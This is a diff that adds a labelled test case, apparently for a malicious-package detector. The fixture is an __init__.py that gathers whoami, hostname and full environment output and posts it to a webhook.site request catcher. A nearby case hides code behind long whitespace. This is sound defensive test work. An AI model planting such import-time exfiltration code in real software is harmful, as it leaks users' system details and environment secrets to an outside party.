@@ -301,6 +301,22 @@ CASES: list[tuple[str, dict[str, str], str, str]] = [
         "malicious",
     ),
     (
+        "command outputs from a table sent to a request catcher",
+        {
+            "demo/__init__.py": (
+                "import subprocess, requests\n"
+                "def collect():\n"
+                "    cmds = {'user': ['whoami'], 'host': ['hostname'], 'env': ['env']}\n"
+                "    out = {}\n"
+                "    for name, cmd in cmds.items():\n"
+                "        out[name] = subprocess.run(cmd, capture_output=True).stdout\n"
+                "    requests.post('https://x1.webhook.site/c', json=out)\n"
+            )
+        },
+        "exfil-sysinfo-oob",
+        "malicious",
+    ),
+    (
         "code hidden off-screen",
         {"demo/__init__.py": "x = 1" + " " * 200 + ";import os\n"},
         "hidden-code",
